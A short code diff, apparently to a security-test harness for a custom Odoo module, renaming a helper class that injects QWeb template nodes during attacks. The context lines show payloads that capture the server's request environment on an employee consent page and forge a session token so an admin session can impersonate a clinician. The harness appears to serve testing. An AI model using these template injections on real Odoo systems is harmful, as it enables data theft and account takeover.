@@ -64,7 +64,7 @@ def custom_computed_field(world):
 
 def edited_portal_template(world):
     """One more expression in the page in which the employee answers the questions about consent."""
-    with _template(world, "casecon_odoo.portal_page", f'<t t-set="stolen" t-value="{stealing("request.env")}"/>'):
+    with Template(world, "casecon_odoo.portal_page", f'<t t-set="stolen" t-value="{stealing("request.env")}"/>'):
         _quietly(_opened, world.employee, f"/my/conferences/{world.conference}/consent")
     return world.take()
 
@@ -137,12 +137,12 @@ def made_session(world):
         "int(request.params['become']))._compute_session_token(request.session.sid)})"
     )
     rpc = type(world.admin)(world.server, "admin", "admin")
-    with _template(world, "portal.portal_my_home", f'<t t-set="become" t-value="{become}"/>'):
+    with Template(world, "portal.portal_my_home", f'<t t-set="become" t-value="{become}"/>'):
         _opened(rpc, f"/my?{urllib.parse.urlencode({'become': world.clinician.uid})}")
     return rpc
 
 
-class _template:
+class Template:
     """A view of Odoo's kind that adds a node to a page, for as long as the attack lasts."""
 
     def __init__(self, world, key, node):
